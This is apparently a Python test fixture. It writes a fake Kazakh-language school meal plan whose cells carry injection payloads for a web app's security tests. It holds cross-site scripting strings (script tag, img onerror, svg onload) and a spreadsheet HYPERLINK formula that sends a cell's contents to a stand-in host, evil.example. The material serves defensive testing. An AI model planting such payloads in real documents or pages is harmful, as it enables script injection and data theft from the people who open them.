"""A hostile school plan (tab-separated text) for the web app's tests: markup, event handlers and spreadsheet
formulas in the cells an analyst sees. Written by a fixture at test time (see conftest.py); not committed."""
from __future__ import annotations

from pathlib import Path

SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(2)>"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Ашу")'
TITLE_ATTACK = '"><svg onload=alert(3)>'

HEADER = "№\tІс-шаралар атауы\tЖауапты орындаушы\tАяқталу нысаны\tОрындау мерзімі\tОрындау индикаторлары"
ROWS = [
    ("1", f"{SCRIPT} Тамақ өнімдерінің сапасын бақылау бойынша ведомстволық сараптамалық топтардың қызметін талдау",
     f"{IMG}, Мектеп әкімшілігі", "Ақпарат", "жыл сайын 15 наурызға дейін", FORMULA),
    ("2", "Мектеп асханаларының ас блоктарында бейнебақылау камераларын орнату",
     f"Әлеуметтік педагог, {SCRIPT}", "Ақпарат", "2023 жыл наурыз", "Камералар орнатылды"),
    ("3", "Ежемесячный мониторинг охвата учащихся горячим питанием",
     "Заместитель директора по воспитательной работе", "Справка", "ежемесячно до 5 числа", FORMULA),
]


def hostile_plan_text() -> str:
    lines = [
        "«Бекітемін»",
        "Мектеп директоры Ж. Серікова",
        "01.09.2022 ж.",
        "",
        f"Абай атындағы №7 мектебінің {TITLE_ATTACK} 2022-2023 жылдарға арналған тамақтандыру жөніндегі "
        "іс-шаралар жоспары",
        "",
        HEADER,
        *("\t".join(row) for row in ROWS),
        "",
    ]
    return "\n".join(lines)


def write_hostile_plan(folder: Path) -> Path:
    path = folder / "hostile_school_plan.txt"
    path.write_text(hostile_plan_text(), encoding="utf-8")
    return path
